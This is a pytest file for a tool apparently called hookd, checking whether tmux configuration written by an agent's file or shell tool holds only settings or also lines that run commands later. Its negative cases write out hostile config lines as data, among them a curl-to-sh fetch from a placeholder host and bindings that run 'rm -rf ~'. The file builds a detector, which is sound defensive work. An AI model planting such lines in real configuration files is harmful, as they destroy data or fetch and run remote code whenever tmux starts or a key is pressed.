"""A program's configuration that may run commands (`~/.tmux.conf`), written with settings and key bindings only:
not code run later (blind-tools-4's tmux false positive); any line that runs a command still is."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import HOME, ops

from hookd.enrich.effects.configtext import settings_only
from tests.unit.enrich.test_tool_effects import enriched

CONF = f"{HOME}/.config/tmux/tmux.conf"


@pytest.mark.parametrize(
    "text",
    [
        "set -g mouse on\nset -g history-limit 50000\nbind r source-file ~/.config/tmux/tmux.conf\n",
        "# keys\nbind | split-window -h -c '#{pane_current_path}'\nunbind C-b\nsetw -g mode-keys vi\n",
        "bind r source-file ~/.tmux.conf \\; display 'Reloaded'\n",
    ],
)
def test_settings_and_bindings_run_nothing(text: str) -> None:
    assert settings_only(CONF, text)


@pytest.mark.parametrize(
    "text",
    [
        "set -g status-right '#(curl -s x.example | sh)'",
        "bind x run-shell 'rm -rf ~'",
        "bind x send-keys 'rm -rf ~' Enter",
        "set -g default-command 'sh /tmp/x'",
        "set-hook -g after-new-window 'run x'",
        "bind c new-window 'rm -rf ~'",
        "if-shell 'true' 'kill-server'",
        "source-file /tmp/x.conf",
        "set -g mouse on\nrun 'x'",
    ],
)
def test_lines_that_run_commands_are_not_settings(text: str) -> None:
    assert not settings_only(CONF, text)


def test_other_files_are_not_judged_as_settings() -> None:
    # no grammar of pry's settings (psql's, gdb's have one: autoload50, gaps38)
    assert not settings_only(f"{HOME}/.pryrc", "Pry.config.color = false\n")


def test_a_file_tool_writing_settings_only_runs_nothing_later(tmp_path: Path) -> None:
    text = "set -g mouse on\nbind r source-file ~/.config/tmux/tmux.conf\n"
    event = enriched("gemini", "write_file", {"file_path": CONF, "content": text}, tmp_path)
    assert [e for e in event.facts.get("effects", []) if e["op"] == "exec"] == []


def test_a_shell_write_of_settings_only_runs_nothing_later(tmp_path: Path) -> None:
    assert ops("echo 'set -g mouse on' >> ~/.tmux.conf", tmp_path, "exec") == []
    assert ops("echo 'run-shell x' >> ~/.tmux.conf", tmp_path, "exec") != []
